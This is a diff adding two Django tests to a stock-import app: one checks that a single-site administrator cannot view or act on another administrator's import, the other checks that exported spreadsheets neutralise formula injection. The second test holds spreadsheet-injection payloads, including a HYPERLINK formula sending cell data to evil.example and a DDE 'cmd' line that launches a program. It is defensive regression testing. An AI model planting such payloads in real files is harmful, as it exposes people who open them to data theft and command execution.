@@ -130,3 +130,79 @@ def test_another_countrys_import_is_not_found(login, reg, host_b, country_b):
     client.defaults["HTTP_HOST"] = host_b
     assert client.get(f"/import/{run.pk}/").status_code == 404
     assert client.get(f"/import/{run.pk}/columns/").status_code == 404
+
+
+def test_a_one_store_administrator_neither_sees_nor_uses_another_administrator_s_run(
+    login, reg, django_capture_on_commit_callbacks
+):
+    """import_scope.py: admin.north opened, mapped and downloaded the national
+    administrator's whole-country file."""
+    from accounts.roles import SMS_ADMINISTRATOR
+    from tests.factories import make_user
+
+    north = make_user(role=SMS_ADMINISTRATOR, sites=[reg.site_x], username="admin-north")
+    client = login(reg.admin)
+    client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS), "country.xlsx")})
+    run = ImportRun.objects.get()
+    form = client.get(f"/import/{run.pk}/columns/").context["form"]
+    data = {name: form[name].value() for name in form.fields}
+    data[form.store_fields[0][0]] = str(reg.site_y.pk)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(f"/import/{run.pk}/columns/", data)
+    run.refresh_from_db()
+    assert run.status == ImportRun.Status.CHECKED and run.report_file
+
+    client = login(north)
+    assert f"/import/{run.pk}/" not in client.get("/import/").content.decode()
+    for url in (
+        f"/import/{run.pk}/",
+        f"/import/{run.pk}/columns/",
+        f"/import/{run.pk}/checked.xlsx",
+    ):
+        assert client.get(url).status_code == 404, url
+    assert client.post(f"/import/{run.pk}/columns/", data).status_code == 404
+    assert client.post(f"/import/{run.pk}/", {"action": "import_valid"}).status_code == 404
+    assert StockItem.objects.count() == 0
+    # Their own run, they see.
+    client.post("/import/upload/", {"file": named(xlsx(HEADERS, ROWS[1:]), "mine.xlsx")})
+    mine = ImportRun.objects.get(requested_by=north)
+    assert client.get(f"/import/{mine.pk}/").status_code == 200
+    assert f"/import/{mine.pk}/" in client.get("/import/").content.decode()
+    # An administrator of all sites sees both.
+    page = login(reg.admin).get("/import/").content.decode()
+    assert f"/import/{run.pk}/" in page and f"/import/{mine.pk}/" in page
+
+
+def test_the_checked_copy_keeps_no_formula_of_the_uploaded_file(
+    login, reg, django_capture_on_commit_callbacks
+):
+    """imports2.py: a crafted file's formulas stayed live in checked.xlsx."""
+    payloads = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ]
+    rows = [["Store X", "whole-tusk", "XA 15/40/9", "9", "2015-03-02"]]
+    rows += [[p, "whole-tusk", p, 3, p] for p in payloads]
+    content = xlsx(HEADERS + ["=1+1"], [r + ["=SUM(1,2)"] for r in rows])
+    client = login(reg.admin)
+    client.post("/import/upload/", {"file": named(content, "crafted.xlsx")})
+    run = ImportRun.objects.get()
+    form = client.get(f"/import/{run.pk}/columns/").context["form"]
+    data = {name: form[name].value() for name in form.fields}
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(f"/import/{run.pk}/columns/", data)
+    run.refresh_from_db()
+    assert run.report_file, run.error
+    checked = client.get(f"/import/{run.pk}/checked.xlsx")
+    book = load_workbook(
+        io.BytesIO(b"".join(checked.streaming_content) if checked.streaming else checked.content)
+    )
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=SUM(1,2)" in texts and "'+cmd|' /C calc'!A0" in texts
+    assert any(isinstance(c.value, int | float) for c in cells)  # numbers stay numbers
